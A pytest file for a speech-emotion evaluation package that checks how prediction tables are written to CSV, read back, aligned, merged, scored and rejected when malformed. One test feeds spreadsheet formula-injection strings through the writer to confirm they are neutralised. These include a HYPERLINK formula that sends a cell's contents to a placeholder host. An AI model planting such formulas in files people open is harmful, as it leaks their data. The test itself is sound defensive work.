# SPDX-License-Identifier: Apache-2.0
"""Answers in memory and on disk: what is kept, what goes together, and what is refused."""

import csv

import numpy as np
import pytest
from sklearn.metrics import balanced_accuracy_score

from mser_llm.evaluation.predictions import (
    Predictions,
    PredictionsError,
    list_clips,
    read_predictions,
    write_predictions,
)
from processing_mser import UNPARSED


WORDS = ("happy", "sad", "angry")


def predictions(**fields) -> Predictions:
    whole = {
        "labels": WORDS,
        "corpora": ["one", "one", "two"],
        "ids": ["a, b", "ü", "a, b"],
        "truths": ["happy", "sad", "angry"],
        "predicted": ["happy", UNPARSED, "sad"],
        "scores": np.array([[0.5, 0.25, 0.25], [0.1, 0.2, 0.7], [0, 1, 0]]),
        "speakers": ["s1", None, "s1"],
        "genders": ["female", None, "female"],
        "languages": ["de", "de", None],
        "files": ["/x/a, b.wav", "/x/ü.wav", None],
    }
    return Predictions(**(whole | fields))


def same(first: Predictions, second: Predictions) -> bool:
    lists = ("labels", "corpora", "ids", "truths", "predicted", "speakers", "genders", "languages", "files")
    return all(getattr(first, name) == getattr(second, name) for name in lists)


@pytest.mark.parametrize("scores", [None, predictions().scores])
def test_what_is_written_is_read_back(scores, tmp_path):
    written = predictions(scores=scores)
    path = write_predictions(tmp_path / "made" / "predictions.csv", written)
    for place in (path, path.parent):
        read = read_predictions(place)
        assert same(read, written)
        if scores is None:
            assert read.scores is None
        else:
            np.testing.assert_allclose(read.scores, scores)


def test_formulas_are_written_as_text_and_read_back(tmp_path):
    names = [
        '=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1", "-1 + 2", "@SUM(A1)", "\t=1", "\r=1", "a\nb", " =1", "＝1",
        "'=1", "''=1", "'quoted'", "'", "plain - text", "a=b", "''", "'\n",
    ]  # fmt: skip
    count = len(names)
    written = predictions(
        corpora=names, ids=names, files=names, speakers=names, genders=names, languages=names,
        truths=["sad"] * count, predicted=["sad"] * count, scores=None,
    )  # fmt: skip
    path = write_predictions(tmp_path / "predictions.csv", written, [{"corpus": "-x", "id": "=y", "error": "=z"}])
    assert same(read_predictions(path), written)
    assert read_predictions(path).align(written)[0].ids == names
    assert list_clips(path)[-1] == ("-x", "=y")
    with open(path, encoding="utf-8", newline="") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    # As OWASP lists them: what a spreadsheet evaluates, also behind the white space that it drops.
    assert [cell for cell in cells if cell.lstrip()[:1] in set("=+-@＝") or cell[:1] in set("\t\r")] == []


def test_predictions_saved_as_utf_16_are_read(tmp_path):
    path = write_predictions(tmp_path / "predictions.csv", predictions())
    path.write_bytes(path.read_bytes().decode().encode("utf-16"))
    assert same(read_predictions(path), predictions())


def test_a_table_from_before_genders_is_read(tmp_path):
    path = write_predictions(tmp_path / "predictions.csv", predictions())
    with open(path, encoding="utf-8", newline="") as file:
        lines = list(csv.DictReader(file))
    with open(path, "w", encoding="utf-8", newline="") as file:
        table = csv.DictWriter(file, [name for name in lines[0] if name != "gender"], extrasaction="ignore")
        table.writeheader()
        table.writerows([*lines, {"corpus": "one", "id": "broken", "emotion": "sad", "error": "no such file"}])
    assert same(read_predictions(path), predictions(genders=[]))


def test_figures_are_those_of_scikit_learn():
    figures = predictions().metrics()
    assert figures["UA"] == pytest.approx(1 / 3)
    assert figures["UA"] == balanced_accuracy_score(["happy", "sad", "angry"], ["happy", "angry", "sad"])
    assert figures["unparsed"] == pytest.approx(1 / 3)


def test_a_speaker_is_one_cluster_and_a_clip_without_one_its_own():
    clusters = predictions(
        corpora=["one"] * 4,
        ids=list("abcd"),
        truths=["sad"] * 4,
        predicted=["sad"] * 4,
        scores=None,
        speakers=["s", None, "s", None],
        genders=[],
        languages=[],
        files=[],
    ).clusters()
    assert clusters[0] == clusters[2]
    assert len({clusters[0], clusters[1], clusters[3]}) == 3


def test_parts_and_their_sum():
    whole = predictions()
    first, rest = whole.subset([True, False, False]), whole.subset([False, True, True])
    assert first.ids == ["a, b"]
    assert rest.predicted == [UNPARSED, "sad"]
    joined = Predictions.concatenate([first, rest])
    assert same(joined, whole)
    np.testing.assert_array_equal(joined.scores, whole.scores)
    assert Predictions.concatenate([first, predictions(scores=None)]).scores is None


def test_two_systems_meet_on_the_clips_that_both_have():
    first = predictions()
    second = predictions(predicted=["sad", "sad", "angry"]).subset(np.array([2, 0]))
    a, b = first.align(second)
    assert a.corpora == b.corpora == ["one", "two"]
    assert a.predicted == ["happy", "sad"]
    assert b.predicted == ["sad", "angry"]


def in_another_order() -> Predictions:
    """`predictions()` by a program that writes its words in the order of the alphabet."""
    return predictions(
        labels=("angry", "happy", "sad"), scores=np.array([[0.25, 0.5, 0.25], [0.7, 0.1, 0.2], [0, 0, 1]])
    )


def test_the_same_words_in_another_order_are_the_same_labels():
    first, second = predictions().align(in_another_order())
    assert same(first, second) and second.labels == WORDS
    np.testing.assert_array_equal(first.scores, second.scores)
    joined = Predictions.concatenate([predictions(), in_another_order()])
    assert joined.labels == WORDS and joined.predicted == predictions().predicted * 2
    np.testing.assert_array_equal(joined.scores, np.concatenate([predictions().scores] * 2))
    assert joined.metrics()["confusion"] == (2 * np.array(predictions().metrics()["confusion"])).tolist()


@pytest.mark.parametrize(
    ("other", "message"),
    [
        (predictions(truths=["sad", "sad", "angry"]), "one, clip a, b: the truth is happy .* and sad for the other"),
        (predictions(corpora=["x"] * 3, ids=list("abc")), "share no clip"),
        (predictions(corpora=["one"] * 3), "^one, clip a, b: is there twice; give each clip once"),
        (predictions(labels=("happy", "sad", "angry", "calm"), scores=None), "the same labels"),
    ],
)
def test_what_cannot_be_compared_is_told(other, message):
    with pytest.raises(PredictionsError, match=message):
        predictions().align(other)


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"truths": ["happy", "sad"]}, "unequal length"),
        ({"predicted": ["happy", "sad", "joyful"]}, "predicted hold 'joyful'"),
        ({"truths": ["happy", "sad", None]}, "truths hold None"),
        ({"scores": np.zeros((3, 2))}, r"\(3, 2\).*need \(3, 3\)"),
    ],
)
def test_what_does_not_fit_together_is_refused(fields, message):
    with pytest.raises(PredictionsError, match=message):
        predictions(**fields)


HEADER = b"corpus,id,emotion,prediction,p_sad,p_happy,error\n"


def test_a_mark_at_the_beginning_of_a_file_is_no_part_of_a_name(tmp_path):
    path = write_predictions(tmp_path / "predictions.csv", predictions())
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert same(read_predictions(path), predictions())


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "cannot be read"),
        (b"RIFF\x00\xff", "is no table of text"),
        (b"a,b\n1,2\n", "has no column corpus, id, emotion, prediction"),
        (b"corpus\none\n", "has no column id, emotion, prediction; give"),
        (b"corpus;id;emotion;prediction\none;1;sad;sad\n", "separated by semicolons; write it with commas"),
        (b'"corpus"\t"id"\t"emotion"\t"prediction"\none\t1\tsad\tsad\n', "separated by tabs"),
        (b"corpus,id,emotion,prediction\none,1,sad,sad\n", "names no labels"),
        (HEADER, "holds no answered clip; give"),
        (HEADER + b"one,1,sad,,,,no such file\n", "holds no answered clip, and 1 with an error; give"),
        (HEADER + b"one,1,sad,sad,1,0,\none,2,sad,,1,0,\n", "line 3 has no prediction; .* error .* 'unparsed'"),
        (HEADER + b"one,1,sad,sad,1,0,\none,2,sad, ,1,0,\n", "line 3 has no prediction"),
        (HEADER + b"one,1,sad,sad,1,0,\none,2,sad", "line 3 has no prediction"),
        (HEADER + b"one,1,sad,sad,1,0,\none,2", "line 3 has no emotion and no prediction"),
        (
            HEADER + b"a,1,sad,sad,1,0,\nb,1,sad,sad,1,0,\na,1,sad,sad,1,0,\n",
            "line 4 is clip 1 of a, as is line 2",
        ),
        (b"corpus,id,emotion,prediction,p_sad,p_happy\none,1,angry,sad,1,0\n", "truths hold 'angry'"),
        (b"corpus,id,emotion,prediction,p_sad,p_happy\none,1,sad,sad,1,x\n", "is no number"),
    ],
)
def test_a_file_that_is_none_is_told(content, message, tmp_path):
    path = tmp_path / "predictions.csv"
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(PredictionsError, match=message) as raised:
        read_predictions(path)
    assert str(path) in str(raised.value)
    assert "\n" not in str(raised.value)
